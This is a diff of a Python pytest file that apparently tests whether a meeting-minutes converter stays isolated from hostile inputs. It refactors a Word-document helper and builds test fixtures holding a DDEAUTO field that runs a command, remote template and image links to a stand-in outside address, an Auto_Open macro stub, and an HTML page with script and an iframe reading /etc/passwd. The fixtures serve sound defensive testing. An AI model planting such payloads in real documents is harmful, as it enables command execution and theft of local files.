@@ -2,27 +2,24 @@
 
 from __future__ import annotations
 
-import io
 import json
 import os
 import re
 import sqlite3
 import subprocess
 import sys
-import zipfile
 from pathlib import Path
 
 import pytest
 from reportlab.pdfgen.canvas import Canvas
 
+from fixtures.badinputs.word_files import docx, p, rels
 from tests.isolation.command import POISON
 
 ROOT = Path(__file__).parents[1]
 NOTES = (
     "# Board\n\nMinutes of the meeting of 2 November 2022\n\nPresent: Ann Rowe\n\n1. Welcome\n\nAll were welcomed.\n"
 )
-W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
-R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 OUTSIDE = "http://198.51.100.7"
 
 pytestmark = pytest.mark.skipif(not hasattr(os, "fork"), reason="processes are watched and limited as on POSIX")
@@ -54,32 +51,8 @@ def minutes(folder: Path, *arguments: str, path: Path = ROOT / "tests" / "watche
     return done
 
 
-def docx(body: str, **parts: str) -> bytes:
-    """A Word document of a body and more parts, by name with __ for / and _dot_ for a dot."""
-    stream = io.BytesIO()
-    with zipfile.ZipFile(stream, "w") as archive:
-        archive.writestr(
-            "[Content_Types].xml",
-            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
-            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
-            '<Default Extension="xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.'
-            'document.main+xml"/></Types>',
-        )
-        archive.writestr(
-            "_rels/.rels",
-            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
-            f'Type="{R}/officeDocument" Target="word/document.xml"/></Relationships>',
-        )
-        archive.writestr(
-            "word/document.xml", f'<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{body}</w:body></w:document>'
-        )
-        for name, part in parts.items():
-            archive.writestr(name.replace("__", "/").replace("_dot_", "."), part)
-    return stream.getvalue()
-
-
 def paragraphs(*texts: str) -> str:
-    return "".join(f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>" for text in texts)
+    return "".join(map(p, texts))
 
 
 def hostile(folder: Path) -> list[str]:
@@ -88,13 +61,9 @@ def hostile(folder: Path) -> list[str]:
         f'<w:p><w:fldSimple w:instr="{field}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
         for field in ("DDEAUTO cmd /c calc", f"INCLUDETEXT {OUTSIDE}/t", f"INCLUDEPICTURE {OUTSIDE}/p.png")
     )
-    relations = (
-        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
-        f'<Relationship Id="r1" Type="{R}/attachedTemplate" Target="{OUTSIDE}/t.dotm" TargetMode="External"/>'
-        f'<Relationship Id="r2" Type="{R}/image" Target="{OUTSIDE}/i.png" TargetMode="External"/></Relationships>'
-    )
-    macro = {"word___rels__document_dot_xml_dot_rels": relations, "word__vbaProject_dot_bin": "Auto_Open"}
-    (folder / "fields.docx").write_bytes(docx(paragraphs("Present: Ann Rowe", "1. Welcome") + fields, **macro))
+    outside = rels(("attachedTemplate", f"{OUTSIDE}/t.dotm"), ("image", f"{OUTSIDE}/i.png"), external=True)
+    macro = {"word/_rels/document.xml.rels": outside, "word/vbaProject.bin": "Auto_Open"}
+    (folder / "fields.docx").write_bytes(docx(paragraphs("Present: Ann Rowe", "1. Welcome") + fields, macro))
     (folder / "page.html").write_text(
         f'<html><link rel=stylesheet href="{OUTSIDE}/s.css"><script>open("ran")</script><img src="{OUTSIDE}/i.png">'
         f'<iframe src="file:///etc/passwd"></iframe><h1>Board</h1><p>Present: Ann Rowe</p><p>1. Welcome</p></html>'
